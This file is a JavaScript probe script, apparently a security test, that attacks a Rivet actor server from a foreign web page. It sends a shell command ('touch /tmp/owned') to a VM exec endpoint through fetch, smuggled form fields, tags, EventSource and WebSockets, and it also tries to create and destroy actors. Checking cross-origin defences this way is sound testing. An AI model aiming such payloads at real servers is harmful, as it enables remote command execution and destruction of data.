// Run in a page that is none of the server's: everything that a page can send to `server`, an origin. Returns the
// names of what it could read; what it could do shows on the server. The key of the VM that it asks for is `key`.
const [server, key, actor] = args;
const query = `rvt-namespace=default&rvt-method=getOrCreate&rvt-key=${key}`;
const exec = `${server}/gateway/vm/action/exec?${query}`;
const body = JSON.stringify({ args: ["touch /tmp/owned"] });
const made = JSON.stringify({ name: "vm", key });
const read = [];

const asked = async (name, url, options) => {
  try {
    const answer = await fetch(url, options);
    if (answer.type !== "opaque") read.push(`${name}: ${answer.status} ${(await answer.text()).slice(0, 200)}`);
  } catch {
    // refused, or not to be read
  }
};

for (const mode of ["cors", "no-cors"]) {
  for (const credentials of ["include", "omit"]) {
    for (const kind of ["text/plain", "application/x-www-form-urlencoded", "application/json"]) {
      await asked(`POST ${kind} ${mode}`, exec, { method: "POST", mode, credentials, body, headers: { "content-type": kind } });
    }
    for (const path of ["/", "/metadata", "/health", "/metrics", "/actors?name=vm", `/actors/${actor}`]) {
      await asked(`GET ${path} ${mode}`, server + path, { mode, credentials });
    }
    await asked(`POST /actors ${mode}`, `${server}/actors`, { method: "POST", mode, credentials, body: made });
  }
}
for (const [method, path, content] of [
  ["PUT", "/actors", made], ["DELETE", `/actors/${actor}`], ["POST", `/gateway/${actor}/action/destroy`, body],
]) {
  await asked(`${method} ${path}`, server + path, { method, body: content, headers: { "content-type": "application/json" } });
}
for (const headers of [
  { "x-rivet-target": "actor", "x-rivet-actor": actor }, { "x-rivet-encoding": "json" }, { authorization: "Bearer x" },
  { "x-rivet-token": "x" },
]) {
  await asked(`POST with ${Object.keys(headers)}`, exec, { method: "POST", body, headers });
}
navigator.sendBeacon?.(exec, body);

// Forms and navigation, into a frame that this page can look into where it is of the same origin.
const frame = document.createElement("iframe");
frame.name = key;
(document.body ?? document.documentElement).append(frame);
const looked = async (name, go) => {
  const loaded = new Promise((resolve) => { frame.onload = resolve; });
  go();
  await loaded;
  try {
    const text = frame.contentDocument?.documentElement.textContent;
    if (text) read.push(`${name}: ${text.slice(0, 200)}`);
  } catch {
    // another origin's
  }
};
for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action: exec, enctype, target: key });
  const field = document.createElement("input");
  Object.assign(field, { name: '{"args":["touch /tmp/owned"],"x":"', value: '"}' });
  form.append(field);
  frame.after(form);
  await looked(`form ${enctype}`, () => form.submit());
}
for (const path of ["/actors?name=vm", "/metrics", "/", "/health"]) {
  await looked(`frame ${path}`, () => { frame.src = server + path; });
}

// Tags: what of them loads tells something.
const tag = (name, attributes) => new Promise((resolve) => {
  const element = Object.assign(document.createElement(name), attributes);
  element.onload = () => { read.push(`${name} ${attributes.src ?? attributes.href}`); resolve(); };
  element.onerror = resolve;
  frame.after(element);
});
for (const path of ["/", "/actors?name=vm", "/metrics", `/gateway/vm/action/exec?${query}`]) {
  await tag("script", { src: server + path });
  await tag("img", { src: server + path });
  await tag("link", { rel: "stylesheet", href: server + path });
}

await new Promise((resolve) => {
  const source = new EventSource(`${server}/gateway/vm/connect?${query}`);
  source.onmessage = (event) => read.push(`EventSource: ${event.data}`);
  source.onerror = () => { source.close(); resolve(); };
});

const socket = (url, protocols) => new Promise((resolve) => {
  const one = new WebSocket(url, protocols);
  one.onopen = () => {
    one.send(JSON.stringify({ body: { tag: "ActionRequest", val: { id: 0, name: "exec", args: ["touch /tmp/owned"] } } }));
  };
  one.onmessage = (event) => {
    read.push(`WebSocket ${protocols}: ${String(event.data).slice(0, 200)}`);
    one.close();
  };
  one.onclose = resolve;
});
const sockets = server.replace("http", "ws");
for (const protocols of [["rivet", "rivet_encoding.json"], ["rivet", "rivet_encoding.bare"], []]) {
  await socket(`${sockets}/gateway/vm/connect?${query}`, protocols);
  await socket(`${sockets}/gateway/${actor}/connect`, protocols);
}
await socket(`${sockets}/connect`, ["rivet", "rivet_encoding.json", "rivet_target.actor", `rivet_actor.${actor}`]);
return read;
